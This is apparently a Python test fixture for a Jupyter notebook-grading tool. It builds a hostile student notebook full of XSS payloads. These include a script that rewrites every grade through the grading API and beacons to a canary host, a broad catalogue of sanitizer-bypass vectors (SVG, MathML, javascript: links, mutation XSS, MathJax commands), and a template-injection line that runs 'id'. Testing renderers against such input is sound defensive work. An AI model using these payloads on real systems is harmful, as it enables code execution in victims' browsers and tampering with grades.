"""What a student may write so that it runs, loads or changes something in the browser of whoever opens it."""

import copy
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

CANARY = "http://canary.invalid"  # a request to it is a script that ran, or something that was loaded
HURT = (
    "window.hurt=1;top.hurt=1;document.title=`hurt`;fetch(`/formgrader/api/grades`).then(r=>r.json())"
    ".then(a=>a.forEach(g=>fetch(`/formgrader/api/grade/`+g.id,{method:`PUT`,body:JSON.stringify({manual_score:4})})));"
    f"new Image().src=`{CANARY}/ran`"
)
SCRIPT = f"<script>{HURT}</script>"
LOUD = f'<img src="/none" onerror="{HURT}">'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HURT}">{SCRIPT}<image href="{CANARY}/svg.png"/></svg>'
TEXTS = {
    "image that fails": LOUD,
    "script": SCRIPT,
    "script in capitals, with a tab": f"<ScRiPt\t>{HURT}</ScRiPt >",
    "script with a null byte": f"<scr\0ipt>{HURT}</scr\0ipt>",
    "svg": SVG,
    "svg that animates": f'<svg><animate onbegin="{HURT}" attributeName="x" dur="1s"></svg>',
    "mathml": f'<math><mtext><a href="javascript:{HURT}" id="press">x</a></mtext>{LOUD}</math>',
    "mathml action": f'<math href="javascript:{HURT}"><maction actiontype="statusline" xlink:href="javascript:1">x</maction></math>',
    "annotation": f'<math><annotation-xml encoding="text/html">{LOUD}</annotation-xml></math>',
    "srcdoc": f"<iframe srcdoc='{SCRIPT}'></iframe>",
    "frame from the network": f'<iframe src="{CANARY}/frame"></iframe><frameset><frame src="{CANARY}/frame"></frameset>',
    "data address": f'<iframe src="data:text/html,{SCRIPT}"></iframe><object data="data:text/html,{SCRIPT}"></object>',
    "embed": f'<embed src="{CANARY}/embed"><object data="{CANARY}/object"></object><applet code="{CANARY}/a"></applet>',
    "link": f"[press](javascript:{HURT}) [press](  JaVaScRiPt:{HURT}) [press](data:text/html,{SCRIPT})",
    "link with references": '<a href="jav&#x09;ascript&colon;window.hurt=1">press</a> [press](&#106;avascript:window.hurt=1)',
    "reference link": f"[press][1]\n\n[1]: javascript:{HURT}",
    "autolink": "<javascript:window.hurt=1> <vbscript:hurt>",
    "link within the server": "[next](/logout) [next](../../../../api/contents) <a href='//canary.invalid/'>x</a>",
    "remote image": f"![x]({CANARY}/image.png) ![x][i]\n\n[i]: {CANARY}/reference.png",
    "remote image as html": f'<img srcset="{CANARY}/set 1x" src="{CANARY}/raw.png" lowsrc="{CANARY}/low"><input type="image" src="{CANARY}/input">',
    "media": f'<video src="{CANARY}/v" poster="{CANARY}/p" onerror="{HURT}" autoplay></video><audio src="{CANARY}/a"></audio>',
    "style": f'<style>@import "{CANARY}/css"; body {{ background: url({CANARY}/bg) }}</style>',
    "style attribute": f'<div style="background: url({CANARY}/attribute); position: fixed; inset: 0">Next</div>',
    "stylesheet": f'<link rel="stylesheet" href="{CANARY}/sheet"><link rel="prefetch" href="{CANARY}/prefetch">',
    "meta and base": f'<meta http-equiv="refresh" content="0;url={CANARY}/meta"><base href="{CANARY}/base/">',
    "form": f'<form action="{CANARY}/form" id="formgrade"><button autofocus onfocus="{HURT}" formaction="javascript:{HURT}">x</button></form>',
    "events": f'<details open ontoggle="{HURT}"><summary>x</summary></details><input autofocus onfocus="{HURT}">',
    "events of a body": f'<body onload="{HURT}" onpageshow="{HURT}"><marquee onstart="{HURT}">x</marquee>',
    "formula": rf"$\href{{javascript:{HURT}}}{{press}}$ $$\class{{x}}{{\cssId{{why}}{{\style{{background:url({CANARY}/tex)}}{{x}}}}}}$$",
    "formula that defines": r"$\def\x{\href{javascript:window.hurt=1}}\x{press}$ $\require{html}\data{hurt=1}{x}$ \(\unicode{x}\)",
    "formula that holds html": f"$a {LOUD} b$\n\n$$\n{SCRIPT}\n$$\n\n\\begin{{align}}{LOUD}\\end{{align}}",
    "formula that ends html": f"<div>\n$$\n</div>{LOUD}\n$$",
    "fence": f"```html\n</code></pre>{LOUD}\n```\n\n~~~\n</code></pre>{SCRIPT}",
    "fence of a diagram": f'```mermaid\ngraph TD\nA["{LOUD}"] --> B\nclick A "javascript:window.hurt=1"\n```',
    "language of a fence": f'```"><img/src=x/onerror={HURT.replace(" ", "")}>\nx\n```',
    "code span": f"`` </code>{LOUD} `` `unclosed {LOUD}",
    "entities": "&#60;img src=x onerror=window.hurt=1&#62; &lt;script&gt;window.hurt=1&lt;/script&gt; &amp;lt;img src=x&amp;gt;",
    "comment": f"<!--> {LOUD} --> <!-- --!> {LOUD} --> <![CDATA[ {LOUD} ]]> <?php {LOUD} ?>",
    "text that changes when read twice": f'<svg></p><style><a id="</style>{LOUD}"></style></svg><noscript><p title="</noscript>{LOUD}">',
    "more of these": f"<form><math><mtext></form><form><mglyph><style></math>{LOUD}<table><td><template>{LOUD}</template></table>",
    "textarea and title": f"<textarea></textarea>{LOUD}<title></title>{LOUD}<xmp></xmp>{LOUD}<plaintext>{LOUD}",
    "div with a blank line": f"<div>\n\n[press](javascript:{HURT})\n\n{LOUD}\n\n</div>",
    "table": f"| a | b |\n|---|---|\n| {LOUD} | [x](javascript:1) |",
    "heading": f"# base_url {LOUD}\n\nsubmission_id\n===\n\n# why",
    "names of the page": '<a id="base_url" name="submission_id">x</a><form id="why"><input name="getElementById"></form>',
    "template": "{{ 7 * 7 }} {% raw %} {{ cycler.__init__.__globals__.os.popen('id').read() }} <%= 1 %> ${window.hurt=1}",
    "file of the server": "![x](/files/secret.png) <img src='/files/double.ipynb'> <img src='files/x.png'>",
}


def text_cells() -> list[NotebookNode]:
    """A text cell for each text."""
    return [
        new_markdown_cell(f"{name}\n\n{text}", id=f"text-{place}") for place, (name, text) in enumerate(TEXTS.items())
    ]


def odd_cells() -> list[dict[str, Any]]:
    """Cells with odd attachments, types, ids, metadata and outputs; as JSON, since no library would write them."""
    odd = f'"><img src=x onerror="{HURT}">.png'
    kinds = {
        "text/html": LOUD,
        "application/javascript": HURT,
        "image/svg+xml": SVG,
        "text/markdown": LOUD,
        "text/latex": r"$\href{javascript:window.hurt=1}{press}$",
        "application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2, "version_minor": 0},
        "application/vnd.vega.v5+json": {"data": {"url": f"{CANARY}/vega"}},
        "application/geo+json": {"type": "Feature", "tile": f"{CANARY}/map"},
        "image/png": f'{PNG}" onerror="{HURT}',
        "image/jpeg": f'" onerror="{HURT}',
        "application/pdf": f"{CANARY}/pdf",
    }
    shown = [
        {
            "output_type": "display_data",
            "data": {kind: data, "text/plain": LOUD},
            "metadata": {kind: {"width": '1" onerror="1"', "isolated": True, "alt": odd}},
        }
        for kind, data in kinds.items()
    ]
    shown += [
        {"output_type": "stream", "name": "stdout", "text": f"\x1b]8;;javascript:1\x07{LOUD}\x1b[31m{SCRIPT}"},
        {"output_type": "error", "ename": LOUD, "evalue": SCRIPT, "traceback": [f"\x1b[31m{LOUD}", SCRIPT]},
        {"output_type": "execute_result", "execution_count": LOUD, "data": {"text/html": SCRIPT}, "metadata": {}},
    ]
    metadata = {
        "trusted": True,
        "tags": [LOUD, "hide"],
        "collapsed": LOUD,
        "name": LOUD,
        "jupyter": {"source_hidden": LOUD},
    }
    marked = {
        "grade_id": LOUD,
        "grade": True,
        "solution": True,
        "points": f'1" onfocus="{HURT}',
        "locked": False,
        "schema_version": 3,
    }
    mapped = {
        odd: {"image/png": PNG},
        "picture.svg": {"image/svg+xml": SVG},
        "page.png": {"text/html": SCRIPT, "image/png": PNG},
    }
    return [
        {
            "cell_type": "markdown",
            "id": odd,
            "metadata": metadata,
            "source": f"![x](attachment:{odd}) ![x](attachment:picture.svg)",
            "attachments": mapped,
        },
        {
            "cell_type": "markdown",
            "id": "raw-attachment",
            "metadata": {},
            "source": '<img src="attachment:page.png" onerror="window.hurt=1">',
            "attachments": mapped,
        },
        {
            "cell_type": "raw",
            "id": "raw-html",
            "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
            "source": LOUD + SCRIPT,
        },
        {"cell_type": "raw", "id": "raw-plain", "metadata": {}, "source": f'<img src="{CANARY}/raw-cell.png">{LOUD}'},
        {
            "cell_type": "code",
            "id": "shown",
            "metadata": metadata,
            "execution_count": LOUD,
            "outputs": shown,
            "source": f"# {LOUD}\n'{SCRIPT}'",
        },
        {"cell_type": "markdown", "id": "marked", "metadata": {"nbgrader": marked}, "source": LOUD},
        {"cell_type": "heading", "level": 1, "id": "heading", "metadata": {}, "source": LOUD},
        {"cell_type": LOUD, "id": "kind", "metadata": {}, "source": LOUD},
    ]


SHOWS = f"""
from IPython.display import HTML, Javascript, SVG, Markdown, Latex, IFrame, Image, display
display(HTML({LOUD!r}), Javascript({HURT!r}), SVG({SVG!r}), Markdown({LOUD!r}), IFrame({CANARY!r} + "/iframe", 9, 9))
display(Image(url={CANARY!r} + "/image.png"), Latex(r"$\\\\href{{javascript:window.hurt=1}}{{press}}$"))
display({{"text/html": {SCRIPT!r}, "image/png": "x"}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
print({LOUD!r})
raise ValueError({LOUD!r})
"""


def hostile(released: NotebookNode) -> dict[str, Any]:
    """The notebook of somebody who tries all of it, and answers nothing."""
    notebook = copy.deepcopy(released)
    answer = next(cell for cell in notebook.cells if cell.cell_type == "markdown" and "nbgrader" in cell.metadata)
    answer.source = "\n\n".join(TEXTS[name] for name in ("image that fails", "link", "formula", "style"))
    notebook.cells += [
        *text_cells(),
        new_code_cell(SHOWS, id="shows", outputs=[new_output("display_data", {"text/html": LOUD})]),
    ]
    data: dict[str, Any] = {**notebook, "cells": [*notebook.cells, *odd_cells()]}
    data["metadata"] = {
        "kernelspec": {"name": "python3", "display_name": LOUD, "language": LOUD},
        "language_info": {"name": LOUD, "pygments_lexer": LOUD, "codemirror_mode": LOUD, "file_extension": LOUD},
        "title": LOUD,
        "authors": [{"name": LOUD}],
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"m": {"model_name": "HTMLModel", "state": {"value": LOUD}}}
            }
        },
    }
    return dict(from_dict(data))
